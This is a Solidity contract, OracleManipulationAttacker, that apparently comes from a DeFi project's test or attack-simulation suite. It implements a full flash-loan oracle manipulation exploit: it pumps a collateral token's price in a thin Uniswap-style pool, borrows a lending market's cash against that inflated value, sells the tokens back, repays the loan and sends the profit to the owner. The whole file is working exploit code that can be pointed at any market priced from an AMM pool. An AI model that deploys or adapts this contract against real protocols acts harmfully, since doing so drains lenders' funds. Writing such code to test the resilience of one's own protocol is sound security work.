// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IUniswapV2Pair} from "../../core/amm/interfaces/IUniswapV2Pair.sol";
import {ILendingMarket} from "../../core/lending/ILendingMarket.sol";
import {FlashLoanAttacker} from "../shared/FlashLoanAttacker.sol";
import {PairSwapper} from "../shared/PairSwapper.sol";

/// @title OracleManipulationAttacker
/// @notice Borrows a lending market's cash against collateral whose price it pumped in a thin AMM pool,
/// all inside one flash loan: buy the collateral token with the loan, supply the attacker's own
/// collateral, borrow, sell the bought tokens back, repay, keep the rest.
contract OracleManipulationAttacker is FlashLoanAttacker, PairSwapper {
    using SafeERC20 for IERC20;

    ILendingMarket public immutable market;
    IUniswapV2Pair public immutable pair;
    /// @notice The token the market lends and the pool quotes in (the flash-loaned token).
    IERC20 public immutable cashToken;
    /// @notice The collateral the market prices from the pool.
    IERC20 public immutable collateral;

    constructor(
        IERC3156FlashLender lender_,
        ILendingMarket market_,
        IUniswapV2Pair pair_,
        IERC20 cashToken_,
        IERC20 collateral_
    ) FlashLoanAttacker(lender_) {
        market = market_;
        pair = pair_;
        cashToken = cashToken_;
        collateral = collateral_;
    }

    /// @notice Pulls `collateralAmount` of the owner's collateral, flash-borrows `loan` cash tokens,
    /// and borrows `borrowAmount` from the market; the proceeds go to the owner.
    function attack(
        uint256 collateralAmount,
        uint256 loan,
        uint256 borrowAmount
    ) external onlyOwner {
        collateral.safeTransferFrom(msg.sender, address(this), collateralAmount);
        lender.flashLoan(
            this,
            address(cashToken),
            loan,
            abi.encode(collateralAmount, borrowAmount)
        );
        cashToken.safeTransfer(owner, cashToken.balanceOf(address(this)));
    }

    function _useLoan(uint256 amount, bytes calldata data) internal override {
        (uint256 collateralAmount, uint256 borrowAmount) = abi.decode(data, (uint256, uint256));
        uint256 bought = _sellIntoPair(pair, cashToken, amount);
        collateral.forceApprove(address(market), collateralAmount);
        market.supply(address(collateral), collateralAmount);
        market.borrow(address(cashToken), borrowAmount, address(this));
        _sellIntoPair(pair, collateral, bought);
    }
}
